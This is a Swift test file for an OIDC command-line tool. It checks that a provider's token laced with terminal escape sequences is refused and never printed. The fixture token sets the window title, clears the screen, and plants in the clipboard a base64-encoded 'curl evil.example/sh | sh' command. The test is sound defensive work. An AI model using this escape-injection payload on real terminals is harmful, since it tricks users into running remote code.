import Foundation
import OIDC
import OIDCTesting
import OIDCTestSupport
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// Security review 4, L2: a provider's token with terminal escapes in it never reaches `oidc token`'s
/// or `oidc exchange`'s standard output.
@Suite("A provider's token with terminal escapes", .timeLimit(.scaledMinutes(2)))
struct TokenEscapeTests {
    /// The hostile answer: an access token that sets the window title, writes the clipboard and
    /// clears the screen (the review's reproduction).
    static let body = #"{"access_token":"AT\u001b]0;owned-title\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaAo=\u0007\u001b[2J\u001b[Hlooks-like-a-token","token_type":"Bearer","expires_in":3600,"issued_token_type":"urn:ietf:params:oauth:token-type:access_token"}"#

    /// Answers every request on `listener` with `body` as JSON, on a thread of its own, until the
    /// listener is closed.
    static func serve(_ listener: RefreshKillTests.Tarpit) {
        let fd = listener.fd
        let response = Array("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nCache-Control: no-store\r\nContent-Length: \(body.utf8.count)\r\nConnection: close\r\n\r\n\(body)".utf8)
        Thread.detachNewThread {
            while true {
                let connection = accept(fd, nil, nil)
                guard connection >= 0 else { return }
                // Reads the request head and its body (Content-Length), then answers.
                var received: [UInt8] = []
                var buffer = [UInt8](repeating: 0, count: 4096)
                while true {
                    let count = read(connection, &buffer, buffer.count)
                    guard count > 0 else { break }
                    received += buffer[0..<count]
                    let text = String(decoding: received, as: UTF8.self)
                    guard let end = text.range(of: "\r\n\r\n") else { continue }
                    let head = text[..<end.lowerBound].lowercased()
                    let length = head.split(separator: "\r\n").first { $0.hasPrefix("content-length:") }
                        .flatMap { Int($0.dropFirst("content-length:".count).trimmingCharacters(in: .whitespaces)) } ?? 0
                    if text.utf8.distance(from: end.upperBound.samePosition(in: text.utf8)!, to: text.utf8.endIndex) >= length { break }
                }
                _ = response.withUnsafeBytes { write(connection, $0.baseAddress, $0.count) }
                close(connection)
            }
        }
    }

    @Test("oidc token --force-refresh and oidc exchange refuse the token: nothing on stdout, no escape anywhere, exit 4")
    func escapesNeverPrinted() async throws {
        try await withTestProvider { provider in
            let listener = try RefreshKillTests.Tarpit()
            Self.serve(listener)
            let store = TokenCommandTests.temporaryStore()
            let keychain = try FileKeychain(directory: URL(fileURLWithPath: store))
            let key = TokenStoreKey(service: "oidc", account: "work")
            var hostile = provider.providerConfiguration
            hostile.tokenEndpoint = URL(string: "http://127.0.0.1:\(listener.port)/token")
            let tokens = try await provider.issueTokens()
            try await keychain.inject(tokens, issuer: provider.issuer, clientID: "test-client", subject: "test-user", provider: hostile, key: key)

            for arguments in [["token", "--force-refresh"], ["exchange"]] {
                let result = try await OIDCBinary.run(arguments + ["--store", store, "--profile", "work"], timeout: .scaled(.seconds(60)))
                #expect(result.status == 4, "\(arguments[0]): \(result.stderr)")
                #expect(result.stdout.isEmpty, "\(arguments[0]) printed: \(result.stdout.debugDescription)")
                #expect(!result.stdout.contains("\u{1B}") && !result.stderr.contains("\u{1B}"))
                #expect(!result.stderr.contains("owned-title") && !result.stderr.contains("Y3VybCBldmls"))
                #expect(result.stderr.contains("VSCHAR"), "\(arguments[0]): \(result.stderr)")
            }
        }
    }
}
